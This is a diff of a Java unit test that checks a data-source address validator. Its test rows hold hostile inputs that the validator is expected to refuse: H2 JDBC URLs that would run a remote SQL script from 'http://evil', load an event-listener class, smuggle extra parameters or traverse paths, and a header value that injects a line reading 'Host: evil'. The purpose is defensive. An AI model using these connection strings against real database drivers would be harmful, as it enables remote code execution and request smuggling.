@@ -4,10 +4,12 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.net.UnknownHostException;
 import java.util.stream.Collectors;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.zhanqiao.web.InputError;
 
 /// Which addresses and accounts a source may have; whatever a driver would take besides is refused by its form.
 class A01_SourceAddressTest {
@@ -44,10 +46,10 @@ class A01_SourceAddressTest {
             JDBC | jdbc:h2:tcp://fund.example:9092/fund                               | at fund.example
             JDBC | jdbc:h2:ssl://fund.example/mem:fund;DATABASE_TO_LOWER=TRUE         | at fund.example
             JDBC | jdbc:h2:tcp://fund/~/fund;MODE=Oracle;IFEXISTS=TRUE                | at fund
-            JDBC | jdbc:h2:tcp://fund/fund;INIT=RUNSCRIPT FROM 'http://evil/x.sql'    | parameter
+            JDBC | jdbc:h2:tcp://fund/fund;INIT=RUNSCRIPT FROM http://evil/x.sql      | parameter
             JDBC | jdbc:h2:tcp://fund/fund;init=runscript                             | parameter
             JDBC | jdbc:h2:tcp://fund/fund;TRACE_LEVEL_FILE=3                         | parameter
-            JDBC | jdbc:h2:tcp://fund/fund;DATABASE_EVENT_LISTENER='x.Y'              | parameter
+            JDBC | jdbc:h2:tcp://fund/fund;DATABASE_EVENT_LISTENER=x.Y                | parameter
             JDBC | jdbc:h2:tcp://fund/fund;MODE=x\\;INIT=y                            | parameter
             JDBC | jdbc:h2:tcp://fund/../../etc                                       | h2
             JDBC | jdbc:h2:mem:fund                                                   | h2
@@ -90,14 +92,16 @@ class A01_SourceAddressTest {
             HTTP | X App Key      | key                   | username
             HTTP | X-App-Key      | a\\nHost: evil        | secret
             HTTP | X-App-Key      | 密钥                  | secret
-            HTTP | X-App-Key      | ''                    | secret
+            HTTP | X-App-Key      | NONE                  | secret
             POSTGRESQL | reader   | s3cret                |
-            POSTGRESQL | ''       | s3cret                | username
+            POSTGRESQL | NONE     | s3cret                | username
             POSTGRESQL | reader   | a\\nb                 | secret
             """)
-    void a03_an_account_or_a_header(SourceKind kind, String username, String secret, String expected) {
-        assertThat(SourceAddress.listAccountFlaws(kind, username, secret.replace("\\n", "\n")).stream()
-                        .map(flaw -> flaw.field())
+    void a03_an_account_or_a_header(SourceKind kind, String username, String secret, @Nullable String expected) {
+        var account = username.replace("NONE", "");
+        var typed = secret.replace("NONE", "").replace("\\n", "\n");
+        assertThat(SourceAddress.listAccountFlaws(kind, account, typed).stream()
+                        .map(InputError::field)
                         .collect(Collectors.joining()))
                 .isEqualTo(expected == null ? "" : expected);
     }
